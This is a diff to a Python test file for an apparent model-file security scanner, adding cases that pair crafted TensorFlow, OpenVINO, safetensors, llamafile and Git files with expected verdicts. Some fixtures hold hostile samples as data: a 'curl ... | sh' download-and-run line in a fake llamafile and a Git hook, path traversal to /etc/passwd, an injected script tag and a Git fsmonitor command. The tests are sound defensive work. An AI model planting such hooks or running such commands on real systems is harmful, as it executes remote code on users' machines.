@@ -33,6 +33,13 @@ def onnx(*initializers: bytes, **facts: str) -> bytes:
     return b"\x08\x08" + field(7, graph) + field(8, b"\x10\x11") + b"".join(field(14, field(1, key.encode()) + field(2, value.encode())) for key, value in facts.items())
 
 
+def tensorflow(*operations: str, functions: tuple[str, ...] = ()) -> bytes:
+    """A SavedModel with a node for each operation, and functions of these names."""
+    nodes = b"".join(field(1, field(1, b"n") + field(2, one.encode())) for one in operations)
+    library = b"".join(field(1, field(1, field(1, one.encode()))) for one in functions)
+    return b"\x08\x01" + field(2, field(2, nodes + (field(2, library) if library else b"")))
+
+
 def elsewhere(**places: str) -> bytes:
     """A tensor of ONNX's in another file."""
     return b"\x08\x01\x10\x01" + b"".join(field(13, field(1, key.encode()) + field(2, value.encode())) for key, value in places.items())
@@ -143,7 +150,26 @@ CASES = [  # what it is, bytes, name, verdict, words of a remark
     ("prose in GGUF", gguf("general.description", 8, text("call eval() first, then exec it")), "m.gguf", NOTHING, ""),
     ("tensors that are aligned to nothing", gguf("general.alignment", 4, struct.pack("<I", 0)), "m.gguf", DANGEROUS, "aligned to 0"),
     ("tensors that are aligned", gguf("general.alignment", 4, struct.pack("<I", 64)), "m.gguf", NOTHING, ""),
-    ("a tensor that is a pickle", safetensors({"w": {"dtype": "U8", "shape": [len(EVIL)], "data_offsets": [0, len(EVIL)]}}, EVIL), "m.safetensors", SUSPICIOUS, "is a pickle"),
+    ("an operation that is none of TensorFlow's", tensorflow("Const", "RunShell"), "saved_model.pb", SUSPICIOUS, "RunShell"),
+    ("operations of TensorFlow's and its text library", tensorflow("Const", "MatMul", "SentencepieceTokenizeOp", "_Retval", "Addons>GatherTree"), "saved_model.pb", NOTHING, ""),
+    ("an operation that is a function of the graph", tensorflow("my_function", functions=("my_function",)), "saved_model.pb", NOTHING, ""),
+    ("an operation of an extension of OpenVINO's", b'<?xml version="1.0"?><net name="x"><layers><layer id="0" name="a" type="Shell" version="extension"/></layers></net>', "m.xml", SUSPICIOUS, "the operation Shell"),
+    ("operations of OpenVINO's and its tokenizers", b'<?xml version="1.0"?><net name="x"><layers><layer id="0" name="a" type="Parameter" version="opset1"/><layer id="1" name="b" type="BPETokenizer" version="extension"/></layers></net>', "m.xml", NOTHING, ""),
+    ("a kernel from elsewhere", b'<CustomLayer name="X"><Kernel entry="x"><Source filename="../../x.cl"/></Kernel></CustomLayer>', "kernels.xml", DANGEROUS, "../../x.cl"),
+    ("a kernel beside it", b'<CustomLayer name="X"><Kernel entry="x"><Source filename="x.cl"/></Kernel></CustomLayer>', "kernels.xml", NOTHING, ""),
+    ("a layer from elsewhere", b'{"layers": [{"digest": "../../../etc/passwd"}]}', "latest.json", DANGEROUS, "../../../etc/passwd"),
+    ("a header that nests", struct.pack("<Q", 600_001) + b'{"a":' * 100_000 + b"1" + b"}" * 100_000, "m.safetensors", DANGEROUS, "nests deeper"),
+    ("metadata that is no text", safetensors({"__metadata__": {"a": {"b": 1}}, "w": {"dtype": "U8", "shape": [1], "data_offsets": [0, 1]}}, b"\0"), "m.safetensors", SUSPICIOUS, "more than texts"),
+    ("what is no safetensors", bytes(range(256)) * 4, "m.safetensors", SUSPICIOUS, "nothing of the kind"),
+    ("a script as a llamafile", b"#!/bin/sh\ncurl http://x.example | sh\nexit\n\0\0", "m.llamafile", DANGEROUS, "runs what it downloads"),
+    ("a script as data", b"#!/bin/sh\ntrue\n", "x.bin", SUSPICIOUS, "script"),
+    ("a template that browsers run", b'{"chat_template": "{{ messages }}<script src=x></script>"}', "tokenizer_config.json", DANGEROUS, "browsers run"),
+    ("a hook of Git's", b"#!/bin/sh\ncurl http://x.example | sh\n", ".git/hooks/post-checkout", DANGEROUS, "a hook of Git's"),
+    ("a hook of Git LFS", b"#!/bin/sh\ngit lfs post-checkout \"$@\"\n", ".git/hooks/post-checkout", NOTHING, ""),
+    ("a monitor in Git's settings", b'[core]\n\tfsmonitor = "sh -c true"\n', ".git/config", DANGEROUS, "fsmonitor"),
+    ("a filter in Git's settings", b'[filter "x"]\n\tsmudge = /tmp/tool %f\n', ".git/config", SUSPICIOUS, "smudge"),
+    ("Git's settings", b'[core]\n\tfsmonitor = true\n\tbare = false\n[filter "lfs"]\n\tsmudge = git-lfs smudge -- %f\n[remote "origin"]\n\turl = https://x.example/y\n', ".git/config", NOTHING, ""),
+    ("a tensor that is a pickle", safetensors({"w": {"dtype": "U8", "shape": [len(EVIL)], "data_offsets": [0, len(EVIL)]}}, EVIL), "m.safetensors", DANGEROUS, "is a pickle"),
     ("a linked model of Core ML elsewhere", b"\x08\x05" + b"\xe2\x22" + bytes([14]) + field(1, field(1, field(1, b"../../ev"))), "m.mlmodel", DANGEROUS, "../../ev"),
     ("Julia's values", b"7JL\x1e\x04\0\0\0run`true`", "m.jls", DANGEROUS, "values of Julia that name run`true`"),
     ("bytecode of Lua's", b"\x08\0\0\0\x01\0\0\0\x1bLuaQ\0execute\0", "m.t7", DANGEROUS, "names execute"),
